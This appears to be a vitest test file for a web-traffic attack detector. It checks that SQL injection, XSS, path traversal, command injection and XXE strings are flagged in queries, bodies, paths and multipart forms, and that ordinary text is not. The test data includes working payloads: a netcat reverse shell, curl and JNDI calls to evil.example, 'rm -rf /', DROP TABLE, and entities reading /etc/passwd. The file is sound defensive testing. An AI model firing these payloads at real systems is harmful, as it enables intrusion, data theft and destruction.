import { describe, expect, it } from 'vitest';
import { createAggregate } from '@/lib/engine/fold/aggregate';
import { createFolder } from '@/lib/engine/fold/fold-exchange';
import { summarise } from '@/lib/engine/fold/summarise';
import { buildExchange, type ExchangeWords } from '@/lib/engine/fold/testing/build-exchange';

const ATTACKS = [
  'sql-injection',
  'cross-site-scripting',
  'path-traversal',
  'command-injection',
  'xml-external-entity',
];

function attacksIn(words: ExchangeWords): string[] {
  const aggregate = createAggregate();
  createFolder({ fingerprint: () => 1, seed: 3 }).fold(aggregate, buildExchange(words));
  return summarise(aggregate)
    .signals.map(({ kind }) => kind as string)
    .filter((kind) => ATTACKS.includes(kind));
}

const VALUES: Readonly<Record<string, readonly string[]>> = {
  'sql-injection': [
    "' or 1=1--",
    "' OR '1'='1",
    '" or ""="',
    "admin'--",
    "admin' #",
    "')) UNION SELECT id,email,password,'4' FROM Users--",
    '1 union all select null,null,version()',
    'x UNION/**/SELECT/**/1,2',
    "1'; DROP TABLE users",
    '1 or 1=1',
    "1' AND sleep(5)--",
    "'||(select pg_sleep(10))||'",
    "'; waitfor delay '0:0:5'--",
    "1' order by 10--",
    "x' and extractvalue(1,concat(0x7e,version()))",
    '(select name from sqlite_master)',
    '1; exec xp_cmdshell',
    "' having 1=1",
  ],
  'cross-site-scripting': [
    '<script>alert(1)</script>',
    '</script><script src=//evil.example/x.js>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="javascript:alert(`xss`)">',
    'javascript:alert(document.cookie)',
    '" onmouseover="alert(1)',
    '<a href=javascript:alert(1)>x</a>',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    'file:///etc/shadow',
    '../.env',
    '....//....//....//etc/hosts',
    '%2e%2e%2f%2e%2e%2fetc',
    'report.pdf\0.png',
    'c:\\windows\\win.ini',
  ],
  'command-injection': [
    '; cat /etc/passwd',
    '127.0.0.1 && whoami',
    'x | nc -e /bin/sh 10.0.0.1 4444',
    '$(curl http://evil.example/x)',
    '$(id)',
    '`id`',
    '; sleep 10',
    '|| ping -c 10 127.0.0.1',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what the attack looks like
    '${jndi:ldap://evil.example/a}',
    'a;rm -rf /',
  ],
};

/** What people and programs write. */
const ORDINARY = [
  "O'Reilly",
  "rock 'n' roll",
  "it's here or there",
  'select a size',
  'select one from the list',
  'the union selected a leader; update your profile',
  'black and white',
  'price <3',
  'I <3 you',
  'a < b and c > d',
  'a;b',
  'name;id;type',
  'fields=name|id',
  'dog & cat',
  'drop table tennis racket',
  '5 or 6',
  "Dwayne 'The Rock' Johnson",
  "say 'hello' -- and leave",
  'C# and F#',
  '../index.html',
  '../../images/logo.png',
  '/etc',
  'see https://example.com/etc/passwd-policy',
  'version..next',
  'wait...',
  '$100 (approx.)',
  '$(document).ready',
  'sleep (8 hours)',
  '<b>bold</b> and <a href="https://example.com">link</a>',
  '<img src="a.png" alt="on sale = 5">',
  'script writing',
  'javascript: the good parts',
  'onclick=',
  '50% off + 10%',
  'a=b&c=d',
  'dXNlcjpwYXNz==',
  '{"a":1}',
  'x@example.com; y@example.com',
  'cat; dog',
  'use `npm install`',
  'Robert (Bob) or Alice',
  "d'accord, l'union fait la force",
  "filter=name eq 'Ann' and age gt 5",
  "project='X' and status='Open' or owner='Ann'",
  "createdAt>='2024-01-01' and createdAt<'2024-02-01'",
];

const places: [string, (value: string) => ExchangeWords][] = [
  ['a query', (value) => ({ query: `page=1&q=${encodeURIComponent(value)}` })],
  ['a JSON body', (value) => ({ requestBody: JSON.stringify({ deep: [{ text: value }] }) })],
  [
    'a form',
    (value) => ({
      requestBody: `a=1&text=${encodeURIComponent(value).replace(/%20/g, '+')}`,
      requestType: 'application/x-www-form-urlencoded',
    }),
  ],
];

describe.each(places)('in %s', (_, place) => {
  for (const [kind, values] of Object.entries(VALUES)) {
    it.each(values)(`finds ${kind} in %j`, (value) => expect(attacksIn(place(value))).toContain(kind));
  }
  it.each(ORDINARY)('finds nothing in %j', (value) => expect(attacksIn(place(value))).toEqual([]));
});

describe('in a path', () => {
  it.each([
    ['/ftp/package.json.bak%2500.md', 'path-traversal'],
    ['/files/..%2f..%2fetc%2fpasswd', 'path-traversal'],
    ['/static/../../etc/passwd', 'path-traversal'],
    ['/a/%2e%2e/b', 'path-traversal'],
    ["/products/1'%20or%201=1--", 'sql-injection'],
    ['/track/%3Cscript%3Ealert(1)%3C/script%3E', 'cross-site-scripting'],
    ['/ping/127.0.0.1;cat%20/etc/passwd', 'command-injection'],
  ])('finds %s', (path, kind) => expect(attacksIn({ path, status: 404 })).toContain(kind));

  it.each([
    "/authors/O'Reilly",
    '/authors/O%27Reilly',
    '/files/a..b',
    '/wiki/C%2B%2B_(language)',
    '/map;zoom=3',
    '/compare/main...next',
    '/items/50%25',
    '/search/rock+and+roll',
    '/Products(1)',
    "/People('ann')/Friends",
  ])('finds nothing in %s', (path) => expect(attacksIn({ path })).toEqual([]));
});

describe('in XML', () => {
  const xml = (text: string) => attacksIn({ requestBody: text, requestType: 'application/xml' });

  it.each([
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE r [<!ENTITY % p PUBLIC "x" "http://evil.example/x.dtd"> %p;]><r/>',
    '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
  ])('finds an external entity in %s', (text) => expect(xml(text)).toContain('xml-external-entity'));

  it.each([
    '<?xml version="1.0"?><order id="1"><name>O\'Reilly &amp; Sons</name></order>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
  ])('finds nothing in %s', (text) => expect(xml(text)).toEqual([]));
});

describe('in a multipart form', () => {
  const form = (head: string, content: string) =>
    attacksIn({
      requestType: 'multipart/form-data; boundary=x',
      requestBody: `--x\r\nContent-Disposition: form-data; name="a"${head}\r\n\r\n${content}\r\n--x--\r\n`,
    });

  it('judges a value', () => expect(form('', "' or 1=1--")).toEqual(['sql-injection']));
  it('judges an entity in a file', () =>
    expect(form('; filename="a.xml"', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>')).toEqual([
      'xml-external-entity',
    ]));
  it('lets a page be uploaded', () =>
    expect(form('; filename="a.html"', '<script>start()</script>')).toEqual([]));
});

it('stays quick whatever is sent', () => {
  const fragments = ["' ", "'(", '; ', ' or ', '<a ', '../', '$(', ' union select ', '))', '1;', '= ', '\n '];
  const started = performance.now();
  for (const fragment of fragments)
    for (const [, place] of places) attacksIn(place(fragment.repeat(30_000 / fragment.length)));
  expect(performance.now() - started).toBeLessThan(3000);
});
